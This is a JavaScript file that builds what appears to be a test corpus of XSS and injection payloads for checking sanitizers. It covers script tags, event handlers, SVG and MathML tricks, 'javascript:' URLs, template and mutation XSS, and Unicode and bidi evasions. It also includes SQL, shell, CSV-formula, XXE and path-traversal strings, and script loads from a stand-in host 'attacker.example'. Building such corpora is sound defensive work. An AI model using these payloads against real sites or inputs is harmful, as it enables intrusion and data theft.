/**
 * Texts that try to become something else than text where they are shown: our own collection of the publicly known families.
 * In each of them `@` stands for the script that must not run and `~` for an address that must not be asked.
 */
const families = {
  tags: String.raw`
<script>@</script>
<SCRIPT>@</SCRIPT>
<ScRiPt >@</sCrIpT >
<script/x>@</script/y>
<script src=~></script>
<script src="//attacker.example/x.js"></script>
<script type=module>@</script>
<script type="text/javascript;version=1">@</script>
<script>@//
<scr<script>ipt>@</scr</script>ipt>
<script><!--
@
--></script>
<script async defer>@</script>
<<script>@//<</script>
<script
>@</script
>
<noscript><p title="</noscript><img src=x onerror=@>">
<plaintext onmouseover=@>
<xmp><p title="</xmp><img src=x onerror=@>">
<listing>&lt;img src=x onerror=@&gt;</listing>
<iframe src=javascript:@></iframe>
<iframe srcdoc="<script>parent.@</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.@&lt;/script&gt;"></iframe>
<frameset onload=@>
<frame src=javascript:@>
<object data=javascript:@></object>
<object data="data:text/html,<script>@</script>"></object>
<embed src=javascript:@>
<embed src="~">
<applet code=x archive=~></applet>
<base href=~>
<link rel=stylesheet href=~>
<link rel=import href=~>
<link rel=prefetch href=~>
<link rel=preload as=script href=~>
<link rel=dns-prefetch href=//attacker.example>
<meta http-equiv=refresh content="0;url=javascript:@">
<meta http-equiv=refresh content="0;url=~">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta charset=utf-7>
<template><script>@</script></template>
<portal src=~></portal>
<fencedframe src=~></fencedframe>
<dialog open onclose=@>x</dialog>
<isindex type=image src=x onerror=@>
<bgsound src=~>
<layer src=~></layer>
<image src=x onerror=@>
<title><img src=x onerror=@></title>
<textarea autofocus onfocus=@>
<slot onslotchange=@><b></b></slot>`,
  handlers: String.raw`
<img src=x onerror=@>
<img src=x onerror="@">
<img src=x onerror='@'>
<img src=x onerror=@//
<img src onerror=@>
<img/src=x/onerror=@>
<img src=x:x onerror=@>
<img src="~">
<img srcset="~ 1x">
<img src=x onerror=&#115;elf.hurt=1>
<img src=x onerror="&#x73;elf['hurt']=1">
<img src=x oNeRrOr=@>
<img src=x onerror
=@>
<img src=x onerror="javascript:@">
<img src=x onload=@ onerror=@>
<body onload=@>
<body onpageshow=@>
<body onhashchange=@>
<body onresize=@>
<input autofocus onfocus=@>
<input type=image src=x onerror=@>
<input onblur=@ autofocus><input autofocus>
<select autofocus onfocus=@>
<button autofocus onfocus=@>
<keygen autofocus onfocus=@>
<a href=# onclick=@>x</a>
<a id=x tabindex=1 onfocus=@>x</a>
<video src=x onerror=@>
<video><source onerror=@></video>
<video poster=~></video>
<video onloadstart=@ src=x></video>
<audio src=x onerror=@>
<audio oncanplay=@ src=~>
<details open ontoggle=@>x</details>
<marquee onstart=@>x</marquee>
<marquee loop=1 width=0 onfinish=@>x</marquee>
<div onmouseover=@>x</div>
<div onpointerenter=@ style="position:fixed;inset:0">x</div>
<div onanimationstart=@ style="animation:x 1s">x</div>
<div ontransitionend=@ style="transition:all 1s">x</div>
<div onwheel=@>x</div>
<div oncopy=@ contenteditable>x</div>
<div onbeforeinput=@ contenteditable>x</div>
<div popover id=p onbeforetoggle=@>x</div><button popovertarget=p>x</button>
<style onload=@></style>
<link rel=stylesheet href=x onerror=@>
<object data=x onerror=@></object>
<form onsubmit=@><button>x</button></form>
<form><button formaction=javascript:@>x</button></form>
<form action=~><input name=x></form>
<div onscroll=@ style="overflow:scroll;height:1px"><br><br></div>
<x onclick=@ contenteditable tabindex=0 autofocus onfocus=@>x</x>`,
  attributes: String.raw`
" onmouseover=@ x="
' onmouseover=@ x='
" autofocus onfocus="@
' autofocus onfocus='@
"><script>@</script>
'><script>@</script>
"><img src=x onerror=@>
'><img src=x onerror=@>
></title><script>@</script>
</title><script>@</script>
</textarea><script>@</script>
</style><script>@</script>
</script><script>@</script>
</noscript><script>@</script>
</template><img src=x onerror=@>
</bdi></p></main><img src=x onerror=@>
"/><svg/onload=@>
" style="background:url(~)
" srcdoc="<script>parent.@</script>
x" href="javascript:@
&quot;&gt;&lt;img src=x onerror=@&gt;
&#34;&#62;&#60;img src=x onerror=@&#62;
&amp;lt;script&amp;gt;@&amp;lt;/script&amp;gt;
%22%3E%3Cscript%3E@%3C/script%3E
%2522%253E%253Cscript%253E@%253C/script%253E
\" onmouseover=\"@
\x3cscript\x3e@\x3c/script\x3e
\u003cscript\u003e@\u003c/script\u003e`,
  svg: String.raw`
<svg onload=@>
<svg/onload=@>
<svg><script>@</script></svg>
<svg><script href=~ /></svg>
<svg><script xlink:href="data:,@"></script></svg>
<svg><script>&#115;elf.hurt=1</script></svg>
<svg><a xlink:href="javascript:@"><text y=20>x</text></a></svg>
<svg><animate onbegin=@ attributeName=x dur=1s>
<svg><animate xlink:href=#x attributeName=href values=javascript:@ /><a id=x><text y=20>x</text></a></svg>
<svg><set attributeName=onmouseover to=@>
<svg><image href=~ /></svg>
<svg><image href=x onerror=@ /></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='@'/></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.@</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=@></style></svg>
<svg><title><img src=x onerror=@></title></svg>
<svg><desc><script>@</script></desc></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="@"/>
<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>
<svg><discard onbegin=@>`,
  mathml: String.raw`
<math><mtext><script>@</script></mtext></math>
<math href="javascript:@">x</math>
<math><maction actiontype="statusline#~" xlink:href="javascript:@">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=@></annotation-xml></math>
<math><mi xlink:href="javascript:@">x</mi></math>
<math><ms><iframe srcdoc="<script>parent.@</script>"></ms></math>`,
  addresses: String.raw`
javascript:@
JaVaScRiPt:@
 javascript:@
java	script:@
java
script:@
javascript&colon;@
javascript&#58;@
javascript:%73elf.hurt=1
javascript://attacker.example/%0a@
javascript:/*--></title></style></script>*/@
vbscript:msgbox(1)
data:text/html,<script>opener.@</script>
data:text/html;base64,PHNjcmlwdD5zZWxmLmh1cnQ9MTwvc2NyaXB0Pg==
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="@"/>
blob:https://attacker.example/x
view-source:javascript:@
feed:javascript:@
jar:~!/x
//attacker.example/x
\\attacker.example\share\x
https:attacker.example/x
https://user:pass@attacker.example/
file:///etc/passwd
intent://x#Intent;scheme=javascript;end
ms-word:ofe|u|~`,
  templates: String.raw`
{{constructor.constructor('@')()}}
{{7*7}}{{$on.constructor('@')()}}
\${self.hurt=1}
#{self.hurt=1}
<%= self.hurt=1 %>
[[\${self.hurt=1}]]
{{=<% %>=}}<%& x %>
{% raw %}{{@}}{% endraw %}
*{self.hurt=1}
{php}@{/php}
<div ng-app ng-csp><b ng-click=$event.view.hurt=1>x</b></div>
<div v-html="'<img src=x onerror=@>'"></div>
<div x-data x-init=@></div>
<div data-bind="html:'<img src=x onerror=@>'"></div>
<div hx-get=~ hx-trigger=load></div>
__proto__
constructor
{"__proto__":{"hurt":1}}
{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"@"}}}
dangerouslySetInnerHTML`,
  mutation: String.raw`
<noscript><style></noscript><img src=x onerror=@></style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=@&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@>
<svg></p><style><a id="</style><img src=x onerror=@>">
<p><svg><style><a title="</style><img src onerror=@>">
<math><annotation-xml encoding=text/html><style><img title="</style><img src=x onerror=@>">
<select><template><img src=x onerror=@></template></select>
<table><td background=~>
<listing><img src=x onerror=@></listing>
<b><noembed><p title="</noembed><img src=x onerror=@>"></b>
<a href="&#1;javascript:@">x</a>
<div id="x"title='&quot;><img src=x onerror=@>'>
<img alt="&#96;&#96;onerror=@" src=x>
<svg><![CDATA[><image xlink:href="]]><img src=x onerror=@>//"></svg>
<xmp></xmp><img src=x onerror=@></xmp>`,
  encodings: `
+ADw-script+AD4-@+ADw-/script+AD4-
+ADwAcwBjAHIAaQBwAHQAPgA-@+ADwALwBzAGMAcgBpAHAAdAA+-
\u00BCscript\u00BE@\u00BC/script\u00BE
\uFF1Cscript\uFF1E@\uFF1C/script\uFF1E
\u2039script\u203A@\u2039/script\u203A
\u3008img src=x onerror=@\u3009
\u02BAonmouseover=@\u02BA
<\u0000script>@</script>
<scr\u0000ipt>@</scr\u0000ipt>
<img src=x one\u0000rror=@>
<img src=x\u000Bonerror=@>
<img\u000Csrc=x\u000Conerror=@>
<img src=x onerror\u00A0=@>
<script\u2028>@</script>
x\u2028@\u2029
\u001B]8;;javascript:@\u0007x\u001B]8;;\u0007
\u001B[2J\u001B[H@
\uFEFF<script>@</script>
\uD83D\uDE00<script>@</script>
\u0130mg<\u017Fcript>@</\u017Fcript>
<\u0131mg src=x onerror=@>
<img src=\u0001x onerror=@>
\u00C0\u00BCscript\u00C0\u00BE@
\u00E0\u0080\u00BCscript>@`,
  bidi: `
\u202Etpircs<\u202C@
\u202Egpj.exe
\u2067"><img src=x onerror=@>\u2069
\u2066\u2066\u2066\u2066\u2066<script>@</script>
photo\u202Egnp.html
\u200F<script>@</script>\u200F
سڵاو"><img src=x onerror=@>
\u061C\u200E\u200F\u202A\u202B\u202C\u202D\u202E
a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C\u030D\u030E
\u{E0001}\u{E0073}\u{E0063}\u{E0072}\u{E007F}
\u2800\u3164\uFFA0\u115F<script>@</script>`,
  markdown: String.raw`
[x](javascript:@)
[x](<javascript:@>)
[x](data:text/html,<script>@</script>)
![x](~)
![x"onerror="@](x)
[x]: javascript:@
<javascript:@>
**<img src=x onerror=@>**
[img]~[/img]
[url=javascript:@]x[/url]
[[x|javascript:@]]
> <script>@</script>
# <svg onload=@>
||<img src=x onerror=@>||
@attacker <tg://resolve?domain=attacker>
https://attacker.example/"onmouseover="@
https://attacker.example/<img src=x onerror=@>
www.attacker.example/'><script>@</script>`,
  styles: String.raw`
<style>@import url(~);</style>
<style>body{background:url(~)}</style>
<style>*{behavior:url(~)}</style>
<div style="background:url(~)">x</div>
<div style="background-image:url('javascript:@')">x</div>
<div style="width:expression(@)">x</div>
<div style="-moz-binding:url(~)">x</div>
<div style="position:fixed;inset:0;z-index:9999">x</div>
;background:url(~);
}body{background:url(~)}
</style><style>*{background:url(~)}
<style>@font-face{font-family:x;src:url(~)}*{font-family:x}</style>
<style>input[value^=a]{background:url(~)}</style>
expression(@)
red;}</style><img src=x onerror=@>`,
  breakers: String.raw`
--><script>@</script>
--!><img src=x onerror=@>
<!--><img src=x onerror=@>-->
<!-- --!><script>@</script>
<![CDATA[<script>@</script>]]>
]]><script>@</script>
<!DOCTYPE html><script>@</script>
<?php @ ?>
<?xml-stylesheet href="javascript:@"?>
";@;//
';@;//
\";@;//
\';@;//
*/@/*
"}];@;[{"
{"a":"</script><script>@</script>"}
</script><!--<script>@
<!--<script>
\u2028@//
\r\nContent-Type: text/html\r\n\r\n<script>@</script>
%0d%0aSet-Cookie:%20hurt=1
x; Path=/; hurt=1
' OR '1'='1
'; DROP TABLE person; --
" OR ""="
) UNION SELECT 1 --
\0
%00<script>@</script>
../../../../etc/passwd
..\..\..\windows\win.ini
CON
$(touch hurt)
;touch hurt
|touch hurt|
=cmd|' /C calc'!A0
=HYPERLINK("~","x")
+1+cmd|' /C calc'!A0
-1+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
=WEBSERVICE("~")
=IMPORTXML("~","//a")
%s%s%s%n
%x%d$1
$&$1$$
\1\g<0>
(a+)+$
.*[(
\N{LATIN SMALL LETTER A}`,
}

/** Every text of the corpus, ready to be put somewhere. A text of several lines is one that needs its line breaks. */
export const xssCorpus = Object.values(families)
  .flatMap((family) => family.trim().split(/\n(?=\S)(?!@$|-->|>@|=@|script:)/u))
  .map((text) => text.replaceAll('@', 'self.hurt=1').replaceAll('~', 'https://attacker.example/x'))
